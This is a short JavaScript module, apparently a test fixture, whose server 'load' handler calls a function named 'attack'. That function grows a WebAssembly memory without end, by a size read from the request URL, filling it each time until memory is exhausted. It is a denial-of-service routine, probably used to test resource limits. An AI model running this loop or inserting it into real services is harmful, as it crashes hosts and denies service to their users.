/** Grows a memory by a megabyte in each slice. */
async function attack(size) {
	const memory = new WebAssembly.Memory({ initial: 1 });
	for (;;) {
		memory.grow(size);
		new Uint8Array(memory.buffer).fill(1);
		await new Promise((resolve) => setTimeout(resolve, 0));
	}
}

export async function load({ url }) {
	return { found: await attack(Number(url.searchParams.get('size') ?? 16)) };
}
